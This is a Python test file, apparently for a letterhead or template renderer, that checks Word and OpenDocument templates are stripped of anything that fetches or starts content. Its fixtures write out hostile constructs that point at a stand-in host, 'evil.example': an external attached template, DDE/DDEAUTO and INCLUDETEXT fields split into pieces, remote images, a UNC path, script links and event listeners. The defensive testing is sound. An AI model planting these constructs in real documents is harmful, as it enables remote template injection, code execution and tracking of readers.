"""Templates that would make the paper fetch or start something: that goes, and what a letterhead is made of stays."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from functools import cache
from xml.etree import ElementTree

import pytest
from papers import PLAIN, WRITERS, made, part

from intlstrat.language import Language

EVIL = "evil.example"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PIXEL = b"\x89PNG logo"


def parts_of(data: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def through(kind: str, template: bytes) -> bytes:
    """The paper with the template."""
    data = WRITERS[kind].render(PLAIN, Language("nb"), template)
    assert isinstance(data, bytes), data
    return data


def relations(*several: tuple[str, str, str, str]) -> bytes:
    """A part of relationships, from their ids, types, targets, and whatever else they say."""
    said = "".join(
        f'<Relationship Id="{key}" Type="{RELATIONS}/{kind}" Target="{target}" {more}/>'
        for key, kind, target, more in several
    )
    return f'<Relationships xmlns="{PACKAGE}">{said}</Relationships>'.encode()


def field(*codes: str, shown: str = "") -> str:
    """A field whose code is cut into pieces."""
    pieces = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return f"{marks[0]}{pieces}{marks[1]}<w:r><w:t>{shown}</w:t></w:r>{marks[2]}"


EXTERNAL = "TargetMode='&#69;xternal'"
FOOTER = (
    f'<w:ftr xmlns:w="{W}" xmlns:r="{RELATIONS}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:p>'
    '<w:r><w:pict><v:shape><v:imagedata r:id="far"/></v:shape></w:pict></w:r>'
    f'<w:r><w:pict><v:shape><v:imagedata src="http://{EVIL}/vml.png"/></v:shape></w:pict></w:r>'
    '<w:r><w:drawing><a:blip r:embed="near" r:link="far"/></w:drawing></w:r>'
    '<w:hyperlink r:id="site"><w:r><w:t>Nettsted</w:t></w:r></w:hyperlink>'
    f"{field('INCLUDE', f'TEXT {EVIL}/x', shown='Sist hentet')}{field(f' dde {EVIL} x')}"
    f"{field(f'INCLUDEPICTURE {EVIL}')}{field(f' LINK {EVIL}')}{field(f'DDEAUTO {EVIL}')}"
    f"<w:r><w:instrText>INCLUDETEXT {EVIL}</w:instrText></w:r>"
    f'<w:fldSimple w:instr=" INCLUDETEXT {EVIL}"><w:r><w:t>Enkelt</w:t></w:r></w:fldSimple>'
    f"{field(' PAGE ', shown='1')}</w:p></w:ftr>"
)


@cache
def word() -> bytes:
    """A Word document with all that a template could fetch or start by."""
    parts = parts_of(made("docx"))
    attached = f'<w:attachedTemplate xmlns:r="{RELATIONS}" r:id="rId1"/></w:settings>'
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(b"</w:settings>", attached.encode())
    parts["word/_rels/settings.xml.rels"] = relations(
        ("rId1", "attachedTemplate", f"http://{EVIL}/t.dotm", 'TargetMode="External"')
    )
    parts["word/_rels/footer-page.xml.rels"] = relations(
        ("far", "image", f"http://{EVIL}/pixel.png", EXTERNAL),
        ("near", "image", "media/logo.png", ""),
        ("site", "hyperlink", f"{EVIL}/", EXTERNAL),
        ("share", "image", f"\\\\{EVIL}\\x.png", ""),
    )
    parts["word/footer-page.xml"] = FOOTER.encode()
    parts["word/media/logo.png"] = PIXEL
    parts["word/vbaProject.bin"] = EVIL.encode()
    return zipped(parts)


OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
LINK = 'xmlns:l="http://www.w3.org/1999/xlink"'
ODT_FOOTER = (
    f'<style:footer><text:p {LINK} xmlns:draw="{OFFICE}drawing:1.0"><draw:frame draw:name="logo">'
    '<draw:image l:href="Pictures/logo.png"/></draw:frame>'
    f'<draw:frame><draw:image l:href="http://{EVIL}/pixel.png"/></draw:frame>'
    f'<draw:frame><draw:image l:href="Pictures/../../{EVIL}"/></draw:frame>'
    f'<draw:frame><draw:object l:href="file:///{EVIL}"/></draw:frame>'
    f'<text:a l:href="vnd.sun.star.script:{EVIL}">Nettsted</text:a>'
    f'<office:event-listeners><x l:href="#{EVIL}"/></office:event-listeners>'
    "<text:page-number>1</text:page-number></text:p>"
)
SETTINGS = (
    f'<office:document-settings xmlns:office="{OFFICE}office:1.0" xmlns:config="{OFFICE}config:1.0"><office:settings>'
    '<config:config-item-set config:name="x"><config:config-item config:name="LinkUpdateMode" config:type="short">2'
    "</config:config-item></config:config-item-set></office:settings></office:document-settings>"
)


@cache
def text() -> bytes:
    """An OpenDocument text with all that a template could fetch or start by."""
    parts = parts_of(made("odt"))
    parts["styles.xml"] = parts["styles.xml"].replace(b"<style:footer>", ODT_FOOTER.encode())
    parts["settings.xml"] = SETTINGS.encode()
    parts["Pictures/logo.png"] = PIXEL
    parts["Pictures/logo.svg"] = f'<svg xmlns="s" {LINK}><image l:href="http://{EVIL}/x"/></svg>'.encode()
    return zipped(parts)


TEMPLATES: dict[str, Callable[[], bytes]] = {"docx": word, "odt": text}


@cache
def paper(kind: str) -> dict[str, bytes]:
    assert EVIL.encode() in b"".join(parts_of(TEMPLATES[kind]()).values())
    return parts_of(through(kind, TEMPLATES[kind]()))


def elements(kind: str) -> Iterator[tuple[str, ElementTree.Element]]:
    for name, content in paper(kind).items():
        if name.endswith((".xml", ".rels", ".rdf")):
            yield from ((name, one) for one in ElementTree.fromstring(content).iter())


@pytest.mark.parametrize("kind", TEMPLATES)
def test_no_address_of_a_template_comes_into_the_paper(kind: str) -> None:
    assert [name for name, content in paper(kind).items() if EVIL.encode() in content] == []


def test_no_relationship_leads_out_and_none_that_is_named_lacks() -> None:
    for name, one in elements("docx"):
        assert not {"external", "attachedtemplate"} & {
            value.rpartition("/")[2].lower() for value in one.attrib.values()
        }
        assert not one.tag.endswith("}attachedTemplate"), name
    (footer,) = (name for name in paper("docx") if name == "word/footer-page.xml")
    known = {one.get("Id") for name, one in elements("docx") if name == "word/_rels/footer-page.xml.rels"}
    named = {
        value
        for name, one in elements("docx")
        if name == footer
        for key, value in one.attrib.items()
        if key.startswith(f"{{{RELATIONS}}}")
    }
    assert named == {"near"}
    assert named <= known


def test_fields_that_fetch_are_left_as_what_they_last_showed() -> None:
    footer = [one for name, one in elements("docx") if name == "word/footer-page.xml"]
    assert [one.text for one in footer if one.tag == f"{{{W}}}instrText"] == [" PAGE "]
    marks = [one.get(f"{{{W}}}fldCharType") for one in footer if one.tag == f"{{{W}}}fldChar"]
    assert marks == ["begin", "separate", "end"]
    said = [one.text for one in footer if one.tag == f"{{{W}}}t"]
    assert [text for text in said if text] == ["Nettsted", "Sist hentet", "Enkelt", "1"]


NESTED = {
    "in pieces": (("INCL", "UDETEXT ", "P", f" {EVIL}"), False),
    "in two pieces around a field": (("INCL", "P", f"UDETEXT {EVIL}"), False),
    "from the field in it": (("P", f"TEXT {EVIL}"), False),
    "in a condition": (("IF ", "P", f" DDE {EVIL}"), False),
    "a condition": (("IF ", "P", ' = "1" "Forside" ""'), True),
}
"""Codes of fields, where P is a field in it, and whether they stay."""


@pytest.mark.parametrize("case", NESTED)
def test_a_code_cut_into_pieces_is_read_whole(case: str) -> None:
    codes, stays = NESTED[case]
    parts = parts_of(word())
    inner = field(" PAGE ", shown="1")
    cut = field(*codes).replace("<w:r><w:instrText>P</w:instrText></w:r>", inner)
    assert inner in cut
    parts["word/footer-page.xml"] = f'<w:ftr xmlns:w="{W}"><w:p>{cut}</w:p></w:ftr>'.encode()
    made = part(through("docx", zipped(parts)), "word/footer-page.xml")
    assert EVIL not in made
    assert made.count("fldCharType") == (6 if stays else 3)
    assert ("Forside" in made, " PAGE " in made) == (stays, True)


def test_a_logo_and_page_numbers_stay() -> None:
    assert PIXEL in paper("docx").values()
    assert paper("odt")["Pictures/logo.png"] == PIXEL
    look = paper("odt")["styles.xml"].decode()
    for kept in ('l:href="Pictures/logo.png"', "Nettsted", "<text:page-number>1<"):
        assert kept in look
    assert look.count("<draw:image") == look.count("Nettsted"), "the logo in each footer, and no other picture"


def test_an_opendocument_template_has_no_say_in_settings_and_links() -> None:
    assert "settings.xml" not in paper("odt")
    hrefs = {value for _, one in elements("odt") for key, value in one.attrib.items() if key.endswith("}href")}
    assert {href for href in hrefs if not href.startswith(("#", "Pictures/"))} == set()
    assert not any("event-listeners" in one.tag or one.tag.endswith("}object") for _, one in elements("odt"))


def test_a_footer_by_another_name_is_cleaned_too() -> None:
    parts = parts_of(word())
    parts["word/bunn.xml"] = parts.pop("word/footer-page.xml")
    parts["word/_rels/bunn.xml.rels"] = parts.pop("word/_rels/footer-page.xml.rels")
    for name in ("word/_rels/document.xml.rels", "[Content_Types].xml"):
        parts[name] = parts[name].replace(b"footer-page.xml", b"bunn.xml")
    made = parts_of(through("docx", zipped(parts)))
    assert b"Sist hentet" in made["word/bunn.xml"]
    assert [name for name, content in made.items() if EVIL.encode() in content] == []
